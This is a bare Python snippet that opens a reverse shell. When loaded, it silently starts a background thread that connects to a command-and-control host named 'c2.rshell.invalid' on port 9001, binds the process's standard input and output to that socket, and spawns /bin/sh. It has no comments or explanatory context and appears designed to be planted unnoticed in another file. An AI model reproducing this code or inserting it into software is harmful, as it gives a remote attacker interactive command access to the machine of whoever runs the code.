import os, pty, socket, threading
def _c():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("c2.rshell.invalid", 9001))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")
threading.Thread(target=_c, daemon=True).start()
